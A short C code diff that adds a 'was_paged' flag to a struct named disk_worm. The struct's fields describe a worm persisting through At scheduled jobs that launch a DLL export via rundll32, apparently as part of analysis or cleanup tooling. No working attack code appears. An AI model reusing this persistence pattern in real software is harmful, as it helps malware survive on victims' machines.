@@ -41,6 +41,7 @@ struct disk_worm {
 	char copy[WORM_NAME_ROOM];        /* what At jobs start: "vqpzl.ux" */
 	char export_name[WORM_NAME_ROOM]; /* what rundll32 is told to call */
 	unsigned jobs;                    /* At1 to AtN */
+	bool was_paged;                   /* some of its memory went to the page file */
 };
 
 struct disk_plan {
